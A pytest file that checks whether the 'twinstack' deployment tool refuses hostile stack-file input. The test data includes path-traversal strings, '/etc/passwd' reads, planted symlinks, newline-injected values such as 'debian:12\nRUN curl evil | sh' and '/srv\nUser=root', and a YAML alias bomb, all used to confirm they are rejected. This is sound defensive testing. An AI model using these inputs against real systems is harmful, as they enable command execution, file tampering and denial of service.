"""No text from a stack file makes `twinstack plan` or `policy` write, or read, outside
their roots: file paths, cost files and stack names are refused with a clear error, and
the build context writer checks containment again (also against planted symlinks)."""

from __future__ import annotations

import os
from pathlib import Path
from typing import Any

import pytest

from components.cost import CostSpec
from components.service import _write_context
from twinstack.errors import SpecError, TwinstackError

from .helpers import base_config, make_project, plan, write_stack


def _tree(root: Path) -> set[str]:
    return {str(p.relative_to(root)) for p in root.rglob("*")}


@pytest.mark.parametrize(
    "path",
    [
        "/../../../../tmp/pwned",
        "/srv/../../etc/cron.d/x",
        "/srv/./x",
        "/srv//x",
        "/srv/x/",
        "srv/x",
        "/srv/x\n",
        "/etc/twinstack/web.env",  # shadows what twinstack writes
        "/etc/systemd/system/web.service",
    ],
)
def test_file_paths_that_leave_or_shadow_are_refused(tmp_path: Path, path: str) -> None:
    root = make_project(tmp_path / "proj")
    outside = tmp_path / "outside"
    outside.mkdir()
    cfg = base_config()
    cfg["twinstack:services"][0]["build"]["files"] = [{"path": path, "content": "x"}]
    before = _tree(tmp_path)
    with pytest.raises(TwinstackError) as err:
        plan(root, "hostile", cfg)
    msg = str(err.value)
    assert "Pulumi.hostile.yaml" in msg and "services[0].build.files[0].path" in msg
    assert "allowed" in msg or "reserved" in msg
    written = _tree(tmp_path) - before
    assert all(w.startswith("proj") for w in written), written
    assert not (tmp_path.parent / "tmp" / "pwned").exists()


def test_build_context_writer_never_follows_a_planted_symlink(tmp_path: Path) -> None:
    ctx = tmp_path / "build" / "stack" / "svc"
    (ctx / "rootfs").mkdir(parents=True)
    target = tmp_path / "victim"
    target.mkdir()
    os.symlink(target, ctx / "rootfs" / "etc")  # as if left by someone else
    _write_context(ctx, {"Dockerfile": "FROM x:1\n", "rootfs/etc/app.conf": "data"})
    assert not (target / "app.conf").exists()
    assert (ctx / "rootfs" / "etc" / "app.conf").read_text() == "data"
    assert not (ctx / "rootfs" / "etc").is_symlink()
    for bad in ("../x", "rootfs/../../x", "/abs"):
        with pytest.raises(SpecError, match="leaves the build folder"):
            _write_context(ctx, {bad: "x"})


def test_build_context_writer_refuses_a_symlinked_folder_and_syncs_exactly(
    tmp_path: Path,
) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    (tmp_path / "build").mkdir()
    os.symlink(victim, tmp_path / "build" / "svc")
    with pytest.raises(SpecError, match="is a symlink"):
        _write_context(tmp_path / "build" / "svc", {"Dockerfile": "FROM x:1\n"})
    assert list(victim.iterdir()) == []
    ctx = tmp_path / "ctx"
    _write_context(ctx, {"Dockerfile": "FROM x:1\n", "rootfs/a/b.conf": "b"})
    (ctx / "stale").write_text("old")
    os.symlink(victim / "f", ctx / "rootfs" / "link")
    (ctx / "rootfs" / "a" / "b.conf").write_text("edited")
    _write_context(ctx, {"Dockerfile": "FROM x:1\n", "rootfs/a/b.conf": "b"})
    files = sorted(str(p.relative_to(ctx)) for p in ctx.rglob("*"))
    assert files == ["Dockerfile", "rootfs", "rootfs/a", "rootfs/a/b.conf"]
    assert (ctx / "rootfs" / "a" / "b.conf").read_text() == "b"
    _write_context(ctx, {"Dockerfile": "FROM x:2\n"})
    assert sorted(str(p.relative_to(ctx)) for p in ctx.rglob("*")) == ["Dockerfile"]


@pytest.mark.parametrize("ref", ["../outside.yaml", "/etc/passwd", "sub/../../x.yaml", "a.txt"])
def test_cost_file_must_stay_in_the_project(tmp_path: Path, ref: str) -> None:
    (tmp_path / "outside.yaml").write_text("currency: EUR\n")
    project = tmp_path / "proj"
    project.mkdir()
    with pytest.raises(ValueError, match=r"not allowed|outside the project") as err:
        CostSpec.model_validate({"file": ref}, context={"base_dir": project})
    assert ref[:20] in str(err.value)


def test_cost_file_inside_the_project_is_read(tmp_path: Path) -> None:
    (tmp_path / "cost").mkdir()
    (tmp_path / "cost" / "prices.yaml").write_text("defaultProfile: standard\n")
    spec = CostSpec.model_validate({"file": "cost/prices.yaml"}, context={"base_dir": tmp_path})
    assert spec.default_profile == "standard"


@pytest.mark.parametrize("stack", ["../../etc", "..", "a/b", "x\ny"])
def test_stack_names_cannot_name_a_path(tmp_path: Path, stack: str) -> None:
    from components.stack import build_stack

    with pytest.raises(SpecError, match="stack name"):
        build_stack(None, stack_name=stack, secret=lambda k: None)  # type: ignore[arg-type]


def test_newline_in_working_dir_cannot_add_a_unit_line(tmp_path: Path) -> None:
    """The issue's example: a workingDir with a newline and a second `User=` line."""
    root = make_project(tmp_path)
    cfg: dict[str, Any] = base_config()
    cfg["twinstack:services"][0]["build"]["workingDir"] = "/srv\nUser=root"
    write_stack(root, "hostile", cfg)
    with pytest.raises(TwinstackError, match=r"workingDir.*not a valid absolute path"):
        plan(root, "hostile", cfg)


@pytest.mark.parametrize(
    "base", ["debian:12 ", "debian:12\nRUN curl evil | sh", "debian:latest", "Debian:12"]
)
def test_base_image_text_cannot_inject_or_dodge_pinning(tmp_path: Path, base: str) -> None:
    root = make_project(tmp_path)
    cfg = base_config()
    cfg["twinstack:services"][0]["build"]["base"] = base
    with pytest.raises(TwinstackError, match=r"build\.base"):
        plan(root, "hostile", cfg)


def test_readme_names_every_grammar() -> None:
    from components.grammar import GRAMMARS

    from .helpers import REPO

    readme = (REPO / "README.md").read_text(encoding="utf-8").lower()
    table = readme[readme.index("### stack files are untrusted input") :]
    missing = [g.name for g in GRAMMARS if g.name.lower() not in table]
    assert not missing, f"README's grammar table lacks {missing}"


def test_json_schema_shows_the_grammars() -> None:
    from components.grammar import ABS_PATH, IMAGE_REF, NAME
    from components.spec import json_schema

    patterns: set[str] = set()

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            if isinstance(node.get("pattern"), str):
                patterns.add(node["pattern"])
            for v in node.values():
                walk(v)
        elif isinstance(node, list):
            for v in node:
                walk(v)

    walk(json_schema())
    for g in (ABS_PATH, IMAGE_REF, NAME):
        assert g.schema_pattern in patterns, g.name


def test_a_cost_file_is_read_within_the_stack_file_bounds(tmp_path: Path) -> None:
    """A stack file brings its cost file in: an alias bomb there is refused the same way."""
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 10)}]" for i in range(1, 9)]
    (tmp_path / "bomb.yaml").write_text("\n".join(lines) + "\n")
    with pytest.raises(ValueError, match=r"bomb\.yaml.*YAML nodes"):
        CostSpec.model_validate({"file": "bomb.yaml"}, context={"base_dir": tmp_path})
